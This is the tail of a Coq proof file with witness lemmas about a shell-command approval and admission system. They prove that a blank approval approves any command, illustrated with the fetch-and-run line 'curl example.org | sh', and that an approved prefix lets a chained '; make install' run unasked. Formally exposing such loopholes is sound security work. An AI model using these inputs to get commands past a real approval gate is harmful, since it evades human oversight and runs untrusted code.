  let st := Approvals.approve "ls -la" "2026-01-01T00:00:00.000Z" no_approvals in
  let st' := Approvals.approve "git push" "2026-01-02T00:00:00.000Z" st in
  Approvals.isApproved st' "ls" = true
  /\ keyed st'
  /\ (Approvals.size st <= Approvals.size st' <= S (Approvals.size st))%nat.
Proof.
  apply (approvals_are_kept "ls" "git push" "2026-01-02T00:00:00.000Z"
           (Approvals.approve "ls -la" "2026-01-01T00:00:00.000Z" no_approvals)).
  - repeat constructor.
  - reflexivity.
Defined.

Lemma blank_approval_approves_everything_witness :
  Approvals.isApproved
    (Approvals.approve "  " "2026-01-01T00:00:00.000Z" no_approvals)
    "curl example.org | sh" = true.
Proof.
  apply (blank_approval_approves_everything "  " "2026-01-01T00:00:00.000Z"
           "curl example.org | sh" no_approvals).
  reflexivity.
Defined.

Lemma safe_prefix_runs_unasked_witness :
  Shell.admission (fun _ => None) true true (" " +:+ "ls" +:+ "; make install")
    = Shell.Run.
Proof.
  apply (safe_prefix_runs_unasked (fun _ => None) true true " " "ls"
           "; make install").
  - left. reflexivity.
  - intros c [<-|[]]. reflexivity.
  - reflexivity.
Defined.

End FurtherExamples.
